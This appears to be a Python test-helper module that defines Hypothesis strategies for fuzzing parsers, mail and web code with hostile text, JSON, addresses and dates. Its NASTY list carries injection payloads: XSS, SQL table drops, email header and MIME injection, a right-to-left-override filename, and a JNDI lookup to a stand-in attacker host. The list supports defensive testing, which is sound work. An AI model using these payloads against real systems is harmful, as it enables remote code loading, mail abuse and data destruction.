"""What hypothesis makes up: texts that strangers type, JSON of any shape, addresses."""

from datetime import UTC, datetime
from string import ascii_letters, digits
from typing import Any

from hypothesis import strategies as st

# Letters of many scripts, and what parsers, terminals, mails and browsers stumble over.
NASTY = [
    "\r\nBcc: evil@example.net",
    "\n",
    "\r",
    "\u2028",
    "\x85",
    "\x00",
    "\x1b[2J",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://evil.example.net}",
    "'; DROP TABLE contacts;--",
    "\u202egnp.exe",
    "\u2066\u2069",
    "\u200b\u200d\ufeff",
    "e" + "\u0301" * 40,
    "\ud83d",
    "\udc00",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\ufdd0\uffff",
    "--batch_x\r\nContent-Type: application/http",
    "=?utf-8?q?forged?=",
    "https://evil.example.net/?a=b&c=d",
    "ﷺ" * 100,
    "x" * 5000,
]

nasty_text: st.SearchStrategy[str] = st.lists(
    st.one_of(st.sampled_from(NASTY), st.text(max_size=12)), max_size=4
).map("".join)
# Without halves of characters, which no encoding can carry.
whole_text = nasty_text.map(lambda text: text.encode("utf-8", "ignore").decode())
json_scalars: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    nasty_text,
)
json_values: st.SearchStrategy[Any] = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(nasty_text, inner, max_size=4)
    ),
    max_leaves=8,
)
# RFC 5322 atoms, in which nothing is folded but case, tag and dots.
local_parts = st.text(ascii_letters + digits + "_-", min_size=1, max_size=20)
tags = st.text(ascii_letters + digits + "+._-", max_size=10)
domains = st.sampled_from(
    ["example.com", "example.org", "mail.example.com", "gmail.com", "bücher.example"]
)
moments = st.datetimes(
    min_value=datetime(2020, 1, 1),  # noqa: DTZ001 - hypothesis wants it naive, and adds the zone
    max_value=datetime(2090, 1, 1),  # noqa: DTZ001 - likewise
    timezones=st.just(UTC),
).map(lambda moment: moment.replace(microsecond=0))
